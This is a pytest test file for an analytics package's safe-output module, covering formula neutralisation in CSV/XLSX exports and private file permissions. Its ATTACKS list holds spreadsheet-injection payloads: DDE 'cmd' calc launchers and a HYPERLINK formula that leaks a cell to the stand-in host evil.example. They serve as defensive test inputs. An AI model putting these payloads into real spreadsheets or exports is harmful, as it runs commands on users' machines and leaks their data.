"""Files Palermo writes: no cell a spreadsheet would run, and 0600 for personal data."""

import csv
import stat
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from palermo_analytics.safe_output import (
    neutralise,
    private_file,
    restore,
    write_csv,
    write_private_text,
    write_xlsx,
)

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_cells_are_neutralised_and_restored(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["Maria", "-99", "+3.5", "-12", "1990-01-01", "", "'quoted"])
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_csv_cells_and_header_are_inert_and_the_file_private(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": ATTACKS, "count": range(len(ATTACKS)), "=x": ["a"] * 7})
    path = write_csv(frame, tmp_path / "out.csv")

    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert rows[1][1] == "0"
    assert mode_of(path) == 0o600


def test_an_existing_world_readable_file_is_replaced_privately(tmp_path: Path) -> None:
    target = tmp_path / "linked.csv"
    target.write_text("old")
    target.chmod(0o644)

    write_csv([["a"], ["=1"]], target)

    assert mode_of(target) == 0o600
    assert target.read_text().splitlines() == ["a", "'=1"]  # read_text turns CRLF into LF


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    path = write_xlsx(pd.DataFrame({"name": ATTACKS, "n": range(7)}), tmp_path / "out.xlsx")

    sheet = load_workbook(path).active
    assert sheet is not None
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row[:1]]
    # XML stores a carriage return as a line feed; the text is otherwise exactly as given.
    assert [str(cell.value).replace("\n", "\r") for cell in values] == ATTACKS
    assert {cell.data_type for cell in values} == {"s"}
    assert mode_of(path) == 0o600


def test_a_failed_write_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "report.html"

    def write_then_fail() -> None:
        with private_file(target) as handle:
            handle.write("half")
            raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_then_fail()

    assert list(tmp_path.iterdir()) == []


def test_private_text_is_0600(tmp_path: Path) -> None:
    assert mode_of(write_private_text(tmp_path / "model.json", "{}")) == 0o600
